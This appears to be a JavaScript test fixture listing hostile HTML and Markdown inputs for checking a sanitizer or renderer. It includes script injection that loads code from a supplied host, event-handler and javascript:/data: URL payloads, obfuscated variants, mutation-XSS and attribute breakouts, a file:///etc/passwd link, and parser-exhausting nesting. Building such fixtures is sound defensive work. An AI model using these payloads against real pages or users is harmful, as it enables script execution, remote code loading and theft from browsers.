// Entries as an attacker would have them imported or shared. Each sets `window.ran` or calls `host` when it works.

export function hostileEntries(host) {
  const run = "window.ran=1";
  return {
    script: `<script>${run}</script><script src="http://${host}/a.js"></script>`,
    handlers: `<img src=x onerror="${run}"> <svg onload="${run}"><circle r="9"/></svg> <details open ontoggle="${run}">x</details>`,
    frames: `<iframe src="http://${host}/"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe><object data="http://${host}/"></object>`,
    forms: `<form action="http://${host}/"><input name=a autofocus onfocus="${run}"><button>Go</button></form>`,
    page: `<base href="http://${host}/"><meta http-equiv="refresh" content="0; url=http://${host}/"><link rel="stylesheet" href="http://${host}/a.css"><style>@import url(http://${host}/b.css);</style>`,
    images: `![a](http://${host}/a.png) ![b](javascript:${run}) ![c](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) [![d](http://${host}/d.png)](http://${host}/)`,
    links: `[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](&#106;avascript:${run}) [d](data:text/html,<script>${run}</script>) [e](vbscript:x) <javascript:${run}> [f](tauri://localhost/ask.html) [g](file:///etc/passwd) [h](http://${host}/)`,
    breakouts: `[a](http://${host}/"onmouseover="${run}) [b]: javascript:${run}\n\n[b]\n\n\`</code><script>${run}</script>\`\n\n\`\`\`"><script>\n</pre><img src=x onerror=${run}>\n\`\`\``,
    mutations: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    signs: `\u202Egnihtemos\u202C \u0000 \uFEFF &lt;script&gt; &#x3C;script&#x3E; ]]> --> \u2028 \u2029`,
    nesting: `${"> ".repeat(300)}deep\n\n${"- ".repeat(200)}deep\n\n${"[".repeat(3000)}\n\n${"*a **b ".repeat(1000)}`,
  };
}
